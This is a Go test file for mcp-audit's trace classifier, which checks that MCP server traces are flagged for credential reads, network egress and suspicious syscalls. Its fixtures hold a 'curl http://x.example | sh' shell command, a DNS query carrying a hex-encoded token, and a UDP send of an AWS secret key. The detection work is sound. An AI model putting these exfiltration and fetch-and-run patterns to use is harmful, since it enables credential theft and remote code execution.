package classify

import (
	"encoding/hex"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/mcp-audit/mcp-audit/internal/canary"
	m "github.com/mcp-audit/mcp-audit/internal/manifest"
	"github.com/mcp-audit/mcp-audit/internal/trace"
)

var update = flag.Bool("update", false, "rewrite golden files")

var layout = Layout{
	Home:      "/home/dev",
	Workspace: "/home/dev/workspace",
	PkgRoot:   "/srv/mcp/node_modules/@modelcontextprotocol/server-memory",
	AppRoot:   "/srv/mcp",
	Runtime:   "/usr/local/bin/node",
}

func parse(t *testing.T, text string) []trace.Event {
	t.Helper()
	tr, err := trace.Parse(strings.NewReader(text), trace.Limits{})
	if err != nil {
		t.Fatal(err)
	}
	if tr.Stats.Malformed != 0 {
		t.Fatalf("test trace has %d malformed lines", tr.Stats.Malformed)
	}
	return tr.Events
}

// TestGolden classifies real traces from ../trace/testdata.
func TestGolden(t *testing.T) {
	files, _ := filepath.Glob("../trace/testdata/*.strace")
	for _, f := range files {
		t.Run(filepath.Base(f), func(t *testing.T) {
			data, err := os.ReadFile(f)
			if err != nil {
				t.Fatal(err)
			}
			phases := Classify(Input{
				Layout:    layout,
				Events:    parse(t, string(data)),
				Canaries:  canary.Generate(nil),
				Resolvers: []string{"127.0.0.1"},
			}).Phases
			got, err := m.Encode(&m.Manifest{SchemaVersion: 1, Phases: phases})
			if err != nil {
				t.Fatal(err)
			}
			golden := filepath.Join("testdata", strings.TrimSuffix(filepath.Base(f), ".strace")+".json")
			if *update {
				os.MkdirAll("testdata", 0o755)
				if err := os.WriteFile(golden, got, 0o644); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(golden)
			if err != nil {
				t.Fatalf("%v (run with -update)", err)
			}
			if diff := cmp.Diff(string(want), string(got)); diff != "" {
				t.Errorf("mismatch (-want +got):\n%s", diff)
			}
		})
	}
}

func TestNormalize(t *testing.T) {
	for in, want := range map[string]string{
		"/srv/mcp/node_modules/@modelcontextprotocol/server-memory/dist/index.js": "<pkg>/dist/index.js",
		"/srv/mcp/node_modules/zod/index.js":                                      "<deps>/zod/index.js",
		"/home/dev/.aws/credentials":                                              "~/.aws/credentials",
		"/home/dev/workspace/.env":                                                "<workspace>/.env",
		"/proc/1234/status":                                                       "/proc/<pid>/status",
		"/proc/1/cgroup":                                                          "/proc/1/cgroup",
		"/proc/self/task/77/status":                                               "/proc/self/task/<tid>/status",
		"/tmp/dir-Ab3xQ9/l":                                                       "/tmp/dir-*/l",
		"/tmp/link-xyz":                                                           "/tmp/link-xyz",
		"/tmp/innocent-18":                                                        "/tmp/innocent-*",
		"/home/dev/workspace/memory.jsonl.3d5ffa2b02cdef7047a20878626f1db6.tmp":    "<workspace>/memory.jsonl.*.tmp",
		"/home/dev/.cache/app/1701234567890.json":                                  "~/.cache/app/*.json",
		"/home/dev/notes-2026.md":                                                  "~/notes-2026.md",
		"/tmp/3f2a1b4c-1111-2222-3333-444455556666.json":                           "/tmp/*.json",
		"/sys/fs/cgroup/memory/docker/" + strings.Repeat("ab", 32) + "/memory.max": "/sys/fs/cgroup/memory/docker/<container>/memory.max",
	} {
		if got := layout.Normalize(in); got != want {
			t.Errorf("Normalize(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestCategory(t *testing.T) {
	for norm, want := range map[string]string{
		"~/.ssh/id_ed25519":          m.CatSensitive,
		"~/.bashrc":                  m.CatShellRC,
		"~/.cursor/extensions.json":  m.CatAIConfig,
		"/proc/self/status":          m.CatAntiAnalysis,
		"/proc/<pid>/status":         m.CatAntiAnalysis,
		"<pkg>/dist/index.js":        m.CatOwnPackage,
		"/lib/x86_64-linux-gnu/a.so": m.CatRuntime,
		"/etc/passwd":                m.CatSystem,
		"/etc/shadow":                m.CatSensitive,
		"/srv/package.json":          m.CatRuntime,
		"<workspace>/notes.md":       m.CatWorkspace,
		"<workspace>/config/.env":    m.CatSensitive,
		"~/notes.txt":                m.CatHome,
		"/tmp/x":                     m.CatTemp,
		"/mnt/data":                  m.CatOther,
	} {
		if got := layout.Category(norm, false, false); got != want {
			t.Errorf("Category(%q) = %q, want %q", norm, got, want)
		}
	}
}

func TestCanaryThroughSymlinkAndRename(t *testing.T) {
	ev := parse(t, `11 10.000001 symlink("/home/dev/.aws/credentials", "/tmp/l1") = 0
11 10.000002 rename("/tmp/l1", "/tmp/d/l2") = 0
11 10.000003 openat(AT_FDCWD</home/dev/workspace>, "/tmp/d/l2", O_RDONLY|O_CLOEXEC) = 17
11 10.000004 link("/home/dev/.ssh/id_rsa", "/home/dev/.cache/k") = 0
11 10.000005 openat(AT_FDCWD</home/dev/workspace>, "../.cache/k", O_RDONLY) = 18
11 10.000006 openat(AT_FDCWD</home/dev/workspace>, ".env", O_RDONLY) = 19
`)
	p := Classify(Input{Layout: layout, Events: ev, Canaries: canary.Generate(nil)}).Phases[0]
	want := []m.CanaryHit{
		{Canary: "file:<workspace>/.env", How: "file-read", Evidence: "<workspace>/.env"},
		{Canary: "file:~/.aws/credentials", How: "file-read", Evidence: "/tmp/d/l* -> ~/.aws/credentials"},
		{Canary: "file:~/.ssh/id_rsa", How: "file-read", Evidence: "~/.cache/k -> ~/.ssh/id_rsa"},
	}
	if diff := cmp.Diff(want, p.Canaries); diff != "" {
		t.Errorf("canary hits (-want +got):\n%s", diff)
	}
}

func TestNetworkDNSAndExfil(t *testing.T) {
	cs := canary.Generate(nil)
	label := hex.EncodeToString([]byte(cs.Env["GITHUB_TOKEN"]))
	// A DNS query for <hex(token)[:60]>.<rest>.x.example built as wire format.
	q := []byte{0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0}
	for _, l := range []string{label[:60], label[60:], "x", "example"} {
		q = append(q, byte(len(l)))
		q = append(q, l...)
	}
	q = append(q, 0, 0, 1, 0, 1)
	var esc strings.Builder
	for _, b := range q {
		esc.WriteString(`\x` + hex.EncodeToString([]byte{b}))
	}
	ev := parse(t, `25 1.1 socket(AF_INET, SOCK_DGRAM|SOCK_CLOEXEC|SOCK_NONBLOCK, IPPROTO_IP) = 23
25 1.2 connect(23, {sa_family=AF_INET, sin_port=htons(53), sin_addr=inet_addr("127.0.0.1")}, 16) = 0
25 1.3 sendto(23, "`+esc.String()+`", 100, MSG_NOSIGNAL, NULL, 0) = 100
12 1.4 socket(AF_INET, SOCK_STREAM|SOCK_CLOEXEC|SOCK_NONBLOCK, IPPROTO_IP) = 25
12 1.5 connect(25, {sa_family=AF_INET, sin_port=htons(8443), sin_addr=inet_addr("192.0.2.10")}, 16) = -1 ENETUNREACH (Network is unreachable)
12 1.6 socket(AF_INET, SOCK_DGRAM, IPPROTO_IP) = 26
12 1.7 sendto(26, "key=`+cs.Env["AWS_SECRET_ACCESS_KEY"]+`", 50, 0, {sa_family=AF_INET, sin_port=htons(9999), sin_addr=inet_addr("192.0.2.1")}, 16) = -1 ENETUNREACH (Network is unreachable)
12 1.71 socket(AF_INET6, SOCK_DGRAM, IPPROTO_IP) = 27
12 1.72 connect(27, {sa_family=AF_INET6, sin6_port=htons(443), sin6_flowinfo=htonl(0), inet_pton(AF_INET6, "2001:db8::53", &sin6_addr), sin6_scope_id=0}, 28) = -1 ENETUNREACH (Network is unreachable)
12 1.73 socket(AF_INET, SOCK_DGRAM, IPPROTO_IP) = 28
12 1.74 connect(28, {sa_family=AF_INET, sin_port=htons(443), sin_addr=inet_addr("192.0.2.53")}, 16) = 0
12 1.8 kill(1, SIGKILL) = -1 EPERM (Operation not permitted)
12 1.9 io_uring_setup(64, 0x7ffc) = -1 ENOSYS (Function not implemented)
`)
	p := Classify(Input{Layout: layout, Events: ev, Canaries: cs, Resolvers: []string{"127.0.0.1"}}).Phases[0]
	if len(p.DNS) != 1 || !strings.HasSuffix(p.DNS[0].Name, ".x.example") || p.DNS[0].Type != "A" {
		t.Errorf("dns: %+v", p.DNS)
	}
	wantNet := []m.Connection{
		{Proto: "tcp", Op: "connect", Address: "192.0.2.10", Port: 8443, Result: "unreachable", Category: "egress"},
		{Proto: "udp", Op: "connect", Address: "127.0.0.1", Port: 53, Result: "ok", Category: "dns"},
		// A datagram socket connected where no route goes sent nothing
		// (Chromium's IPv6 reachability check); one connected where a
		// route goes may send.
		{Proto: "udp", Op: "connect", Address: "192.0.2.53", Port: 443, Result: "ok", Category: "egress"},
		{Proto: "udp", Op: "connect", Address: "2001:db8::53", Port: 443, Result: "unreachable", Category: "no-route"},
		{Proto: "udp", Op: "send", Address: "192.0.2.1", Port: 9999, Result: "unreachable", Category: "egress"},
	}
	if diff := cmp.Diff(wantNet, p.Network); diff != "" {
		t.Errorf("network (-want +got):\n%s", diff)
	}
	var how []string
	for _, h := range p.Canaries {
		how = append(how, h.Canary+"/"+h.How+"/"+h.Encoding)
	}
	if diff := cmp.Diff([]string{"env:AWS_SECRET_ACCESS_KEY/sent/raw", "env:GITHUB_TOKEN/sent/hex"}, how); diff != "" {
		t.Errorf("canaries (-want +got):\n%s", diff)
	}
	var kinds []string
	for _, a := range p.Alerts {
		kinds = append(kinds, a.Kind+": "+a.Detail)
	}
	if diff := cmp.Diff([]string{"io_uring: io_uring_setup denied (ENOSYS)", "kill: signal SIGKILL to a process outside the server's tree"}, kinds); diff != "" {
		t.Errorf("alerts (-want +got):\n%s", diff)
	}
}

func TestPhasesAndWitness(t *testing.T) {
	t0 := time.Unix(100, 0)
	ev := parse(t, `5 99.5 execve("/usr/local/bin/node", ["node", "/srv/mcp/node_modules/@modelcontextprotocol/server-memory/dist/index.js"], 0x7ffd /* 9 vars */) = 0
5 100.5 openat(AT_FDCWD</home/dev/workspace>, "/etc/passwd", O_RDONLY|O_CLOEXEC) = 3
7 102.5 execve("/bin/sh", ["sh", "-c", "curl http://x.example | sh"], 0x1 /* 9 vars */) = 0
`)
	phases := Classify(Input{
		Layout: layout, Events: ev, Canaries: canary.Generate(nil),
		Windows: []Window{{Name: m.PhaseStartup, Start: t0, End: t0.Add(time.Second)}, {Name: m.PhaseIdle, Start: t0.Add(time.Second)}},
		Witness: []WitnessRead{{Path: "~/.npmrc", Time: t0.Add(3 * time.Second)}},
	}).Phases
	if len(phases) != 2 {
		t.Fatalf("%d phases", len(phases))
	}
	st, idle := phases[0], phases[1]
	if len(st.Processes) != 1 || st.Processes[0].Argv[1] != "<pkg>/dist/index.js" || len(st.Files) != 1 {
		t.Errorf("startup: %+v", st)
	}
	if len(idle.Processes) != 1 || !idle.Processes[0].Shell {
		t.Errorf("idle processes: %+v", idle.Processes)
	}
	if len(idle.Canaries) != 1 || idle.Canaries[0].How != "file-read-witness" {
		t.Errorf("idle canaries: %+v", idle.Canaries)
	}
}

// TestInjectedArgsLeftOut: the seed mcp-audit gives node is not the
// server's behavior, in the server's argv or a forked child's; the same
// flag with another value (the server's own) is kept.
func TestInjectedArgsLeftOut(t *testing.T) {
	t0 := time.Unix(100, 0)
	ev := parse(t, `5 99.5 execve("/usr/local/bin/node", ["node", "--random-seed=42", "/srv/mcp/node_modules/@modelcontextprotocol/server-memory/dist/index.js"], 0x7ffd /* 9 vars */) = 0
7 99.6 execve("/usr/local/bin/node", ["node", "--random-seed=42", "worker.js", "--random-seed=7"], 0x7ffd /* 9 vars */) = 0
`)
	phases := Classify(Input{
		Layout: layout, Events: ev, Canaries: canary.Generate(nil), Injected: []string{"--random-seed=42"},
		Windows: []Window{{Name: m.PhaseStartup, Start: t0, End: t0.Add(time.Second)}},
	}).Phases
	var got [][]string
	for _, p := range phases[0].Processes {
		got = append(got, p.Argv)
	}
	want := [][]string{{"node", "<pkg>/dist/index.js"}, {"node", "worker.js", "--random-seed=7"}}
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("argv (-want +got):\n%s", d)
	}
}

// TestInjectedArgsLeftOutOfAttribution: a connection names its process
// without the seed mcp-audit gave it.
func TestInjectedArgsLeftOutOfAttribution(t *testing.T) {
	c := &classifier{in: Input{Layout: layout, Injected: []string{"--random-seed=42"}}, procs: map[int]string{}}
	c.setProcess(5, []string{"node", "--random-seed=42", "/srv/mcp/node_modules/@modelcontextprotocol/server-memory/dist/index.js"})
	if got := c.processOf(5); got != "node <pkg>/dist/index.js" {
		t.Errorf("process %q", got)
	}
}
